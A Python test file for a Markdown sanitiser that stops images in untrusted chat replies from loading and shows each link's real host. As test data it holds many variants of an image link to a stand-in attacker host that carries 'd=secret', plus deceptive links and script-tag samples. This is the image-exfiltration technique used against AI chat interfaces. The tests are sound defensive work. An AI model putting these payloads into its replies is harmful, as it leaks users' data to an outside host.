"""Untrusted Markdown made safe to draw (ui/markdown.py): no image loads by itself, links show their host.

Each form an image can take has a row; the output is checked with a CommonMark renderer (markdown-it-py, HTML
output): no `<img` unless its host is allowed. Pure: no proxy, no browser (the browser test is
tests/browser/test_replies_load_nothing.py).
"""

from __future__ import annotations

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from gateway.blocks import settled_length
from tests.support.properties import examples
from ui.markdown import displayable, escape_dollars, inline_code, plain, safe_markdown

RENDER = MarkdownIt("commonmark", {"html": False}).enable(["table", "strikethrough"])  # as Streamlit: raw HTML is text
EVIL = "https://attacker.example/p.png?d=secret"


def loads(markdown: str) -> bool:
    """Rendered to HTML, the text holds an image."""
    return "<img" in RENDER.render(markdown)


IMAGES = {
    "inline": f"Look: ![chart]({EVIL}) here.",
    "inline with title": f'![chart]({EVIL} "a title")',
    "reference": f"![chart][data]\n\n[data]: {EVIL}",
    "reference, collapsed": f"![data][]\n\n[data]: {EVIL}",
    "reference, shortcut": f"![data]\n\n[data]: {EVIL}",
    "reference defined first": f"[data]: {EVIL}\n\n![chart][data]",
    "inside a link": f"[![badge]({EVIL})](https://example.org)",
    "in a table": f"| a | b |\n|---|---|\n| ![x]({EVIL}) | ![x]({EVIL}) |",
    "in a heading": f"## Title ![x]({EVIL})",
    "in a quote": f"> quoted\n> ![x]({EVIL})",
    "in a nested list": f"- one\n  - two ![x]({EVIL})",
    "in emphasis": f"**bold ![x]({EVIL})**",
    "alt text over two lines": f"![two\nlines]({EVIL})",
    "in a quote over two lines": f"> ![two\n> lines]({EVIL})",
    "angle-bracket destination": f"![x](<{EVIL}>)",
    "data URL": "![pixel](data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk)",
    "relative URL": "![x](/app/static/p.png)",
    "CRLF line ends": f"Intro\r\n\r\n![x]({EVIL})\r\n",
    "a NUL byte before it": f"\0 ![x]({EVIL})",
    "two on a line": f"![a]({EVIL}) and ![b](https://other.example/q.png)",
}


@pytest.mark.parametrize("name", IMAGES)
def test_no_image_survives(name):
    text = IMAGES[name]
    assert loads(text), "the case is a real image before"
    safe = displayable(text)
    assert not loads(safe), safe
    assert "not loaded" in safe


def test_the_placeholder_names_the_host():
    assert displayable(IMAGES["inline"]) == r"Look: 🖼 image from attacker\.example — not loaded here."
    assert "embedded image (data: URL) — not loaded" in displayable(IMAGES["data URL"])
    assert "image (relative link) — not loaded" in displayable(IMAGES["relative URL"])
    assert "secret" not in displayable(IMAGES["two on a line"])


def test_the_rest_of_the_text_is_kept_as_it_was():
    text = f"# Title\n\nSome *text*, a [link](https://example.org \"t\"), `code`.\n\n- a\n- b ![x]({EVIL})\n\nEnd."
    safe = displayable(text)
    assert safe == text.replace(f"![x]({EVIL})", r"🖼 image from attacker\.example — not loaded").replace(
        "(https://example.org \"t\")", "(https://example.org \"t\") (example\\.org)")


@pytest.mark.parametrize("text", [
    f"```\n![x]({EVIL})\n```",
    f"~~~md\n![x]({EVIL})\n~~~",
    f"    ![x]({EVIL})",
    f"Use `![x]({EVIL})` to embed.",
    f"Use ``![x]({EVIL}) with ` inside`` to embed.",
])
def test_code_is_left_untouched(text):
    assert displayable(text) == text
    assert not loads(text)


def test_an_unresolved_reference_is_escaped_so_no_renderer_can_resolve_it():
    """While a reply streams, `![x][ref]` may be drawn before its `[ref]: url` arrives in a later block."""
    assert displayable("![chart][data]") == r"\![chart][data]"
    assert displayable("text ![unclosed") == r"text \![unclosed"
    whole = f"![chart][data]\n\nMore.\n\n[data]: {EVIL}\n"
    assert not loads(displayable(whole) + "\n\n[data]: " + EVIL)


def test_autolinks_and_bare_addresses_stay_links():
    text = f"<{EVIL}> and {EVIL}"
    assert displayable(text) == text.replace("$", r"\$")
    assert not loads(text)


def test_raw_html_is_left_to_streamlit_which_never_renders_it():
    text = f'<img src="{EVIL}"> <p><img src="{EVIL}"></p>'
    assert displayable(text) == text


def test_allowed_hosts_render_and_others_do_not():
    text = "![a](https://cdn.trusted.example/a.png) ![b](https://trusted.example/b.png) ![c](https://evil.example/c.png)"
    safe = displayable(text, {"*.trusted.example"})
    assert "![a](https://cdn.trusted.example/a.png)" in safe
    assert "image from trusted\\.example" in safe and "image from evil\\.example" in safe
    assert "![b](https://trusted.example/b.png)" in displayable(text, {"trusted.example"})
    assert not loads(displayable("![d](data:image/png;base64,AAAA)", {"*"}))  # data: never
    assert not loads(displayable("![h](http://127.0.0.1/x.png)", set()))


LINKS = [
    # text, drawn as
    ("[docs](https://attacker.example/x)", "[docs](https://attacker.example/x) (attacker\\.example)"),
    ("[https://bank.example](https://attacker.example)", "[https://bank.example](https://attacker.example) "
                                                          "(attacker\\.example)"),
    ("[attacker.example](https://attacker.example)", "[attacker.example](https://attacker.example)"),
    ("[www.example.org/a](https://example.org/a)", "[www.example.org/a](https://example.org/a)"),
    ("[ref link][r]\n\n[r]: https://attacker.example", "[ref link][r] (attacker\\.example)\n\n[r]: "
                                                       "https://attacker.example"),
    ("[mail me](mailto:a@example.org)", "[mail me](mailto:a@example.org)"),
    ("[home](/chat)", "[home](/chat)"),
    ("<https://example.org>", "<https://example.org>"),
]


@pytest.mark.parametrize("text, shown", LINKS)
def test_links_stay_clickable_and_show_their_real_host(text, shown):
    assert displayable(text) == shown


def test_dollar_signs_are_not_latex_but_code_is_untouched():
    assert displayable("costs $5 or $10") == r"costs \$5 or \$10"
    assert displayable("run `echo $HOME`\n```sh\nexport A=$B\n```") == "run `echo $HOME`\n```sh\nexport A=$B\n```"
    assert escape_dollars("$x ![a](https://e.example/$y)") == r"\$x ![a](https://e.example/\$y)"


@pytest.mark.parametrize("text", ["Héllo wörld ✓", "emoji 👩‍👩‍👧‍👦 🇫🇷", "עברית ومرحبا mixed", "中文 [链接](https://例子.测试)",
                                  "NUL\0byte", "zero\u200bwidth\u2028line"])
def test_unicode_is_kept(text):
    safe = displayable(text)
    for word in text.replace("\0", " ").split():
        if "[" not in word and "(" not in word:
            assert word in safe.replace("\ufffd", " ")


def test_malformed_addresses_do_not_break_anything():
    safe = displayable("![a](http://[::1/x.png) [b](http://[oops/) ![c](http://h:99999999/p.png)", {"h"})
    assert not loads(safe) and "unreadable address" in safe


def test_bidi_controls_in_a_code_span_are_shown_not_obeyed():
    assert inline_code("abc\u202edef\u2066") == "`abc\\u202edef\\u2066`"


@pytest.mark.parametrize("value", ["gpt-4o", "a`b", "```", "x\n\n![a](https://attacker.example/p.png)",
                                   "<script>alert(1)</script>", "*bold* _it_ [l](https://e.example)", "y" * 5000])
def test_any_text_can_be_shown_as_one_code_span(value):
    code = inline_code(value)
    html = RENDER.render(code)
    assert html.count("<code>") == 1 and "<img" not in html and "<script" not in html and "<a " not in html
    assert len(code) < 200


# --- Properties: any Markdown, any split ---------------------------------------------------------------------------

PIECES = st.sampled_from([
    "![a](https://e.example/p.png)", "![a][r]", "[r]: https://e.example/q.png\n", "[r]", "![", "]", "(", ")", "[",
    "<https://e.example/x.png>", "`", "```\n", "~~~\n", "    ", "> ", "- ", "1. ", "| a | b |\n|---|---|\n", "\n",
    "\n\n", "text ", "**", "_", "\\", "<img src=x>", "$5 ", "\r\n", "\t", "![x](<https://e.example/y.png>)",
    "[![i](https://e.example/i.png)](https://l.example)", "\0", "é", "😀",
])
DOCUMENTS = st.lists(PIECES, max_size=40).map("".join)


@settings(max_examples=examples(400), deadline=None)
@given(DOCUMENTS)
def test_no_markdown_at_all_yields_an_image(document):
    safe = displayable(document)
    assert not loads(safe.replace("\\$", "$")), safe


@settings(max_examples=examples(200), deadline=None)
@given(DOCUMENTS, st.integers(min_value=0, max_value=2000))
def test_any_piece_a_streaming_reply_is_drawn_in_is_safe(document, cut):
    """ui/live.py draws settled blocks and the tail each on their own: every piece is safe on its own."""
    cut = min(cut, len(document))
    settled = settled_length(document[:cut])
    for piece in (document[:settled], document[settled:cut], document[settled:]):
        assert not loads(displayable(piece)), piece


@settings(max_examples=examples(200), deadline=None)
@given(DOCUMENTS)
@example("[![i](https://e.example/i.png)](https://l.example)![a][r]")  # two insertions at one place (found)
@example("\\![a](https://e.example/p.png)")  # an escaped `!` stays escaped (found)
def test_safe_markdown_is_idempotent(document):
    once = safe_markdown(document)
    assert safe_markdown(once) == once


def test_a_long_growing_reply_is_made_safe_block_by_block_exactly_as_whole():
    """The compare page draws each streaming reply whole every 50 ms: settled blocks are made safe once."""
    from tests.support.upstream import essay

    document = "".join(essay(2000)).replace("w10 ", f"[w10](https://example.org/x) ![img]({EVIL}) ")
    for end in range(0, len(document), 499):
        assert displayable(document[:end]) == escape_dollars(safe_markdown(document[:end])), end
    assert not loads(displayable(document)) and "(example\\.org)" in displayable(document)


# --- Plain text (titles, file and model names, error messages) ----------------------------------------------------

def _text_of(markdown: str) -> str:
    """What a renderer shows for it: the text of every inline token, markup gone."""
    return "".join(child.content for token in RENDER.parse(markdown) if token.children
                   for child in token.children if child.type in ("text", "code_inline"))


@settings(max_examples=examples(400), deadline=None)
@given(st.one_of(DOCUMENTS, st.text()))
@example("Inline: ![chart](https://attacker.example/p.png?d=secret)")
@example(":red[alarm] :material/warning: <img src=x>")
def test_plain_text_never_becomes_markup_and_shows_every_character(text):
    shown = plain(text)
    html = RENDER.render(shown)
    assert html in ("", "<p>" + html[3:-5] + "</p>\n") and "<" not in html[3:-5], html  # one paragraph of text
    assert "\\:" in shown or ":" not in text  # Streamlit's own directives (:red[…], :material/…:) start with a colon
    if not any(c < " " or "\u2028" <= c <= "\u2069" or c in "\x7f\u061c\u200e\u200f" for c in text) and text.strip():
        assert " ".join(_text_of(shown).split()) == " ".join(text.split())
